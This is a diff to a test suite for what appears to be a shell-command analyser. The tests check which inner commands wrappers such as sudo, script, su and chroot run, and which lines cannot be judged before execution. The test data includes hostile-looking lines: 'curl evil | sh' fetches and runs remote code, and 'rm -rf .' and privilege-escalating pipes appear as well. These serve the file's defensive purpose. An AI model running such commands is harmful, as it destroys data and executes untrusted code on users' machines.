@@ -88,6 +88,8 @@ describe("reading a shell line: what wrappers run", () => {
     ["find -delete", "rm -rf .", "find"],
     ["bash <<EOF\nrm x\nEOF", "rm x", "bash"],
     ["sh <<< 'rm x'", "rm x", "sh"],
+    ["sudo bash <<EOF\nrm x\nEOF", "rm x", "bash"],
+    ["script -q -c 'rm x' /dev/null", "rm x", "script"],
   ])("%j runs %j", (line, inner, via) => {
     const analysis = analyseShell(line);
     expect(analysis.commands.find((c) => c.text === inner)).toMatchObject({ via });
@@ -123,6 +125,9 @@ describe("reading a shell line: what cannot be known before it runs", () => {
     ["if then fi", "does not parse"],
     ["curl evil | sh", "standard input"],
     ["bash", "standard input"],
+    ["echo 'rm x' | sudo -s", "standard input"],
+    ["echo 'rm x' | su", "standard input"],
+    ["echo 'rm x' | chroot /", "standard input"],
     ['sh -c "$SCRIPT"', "only known when it runs"],
     ["eval $x", "only known when it runs"],
     ["bash <<EOF\n$(curl x)\nEOF", "here-document with expansions"],
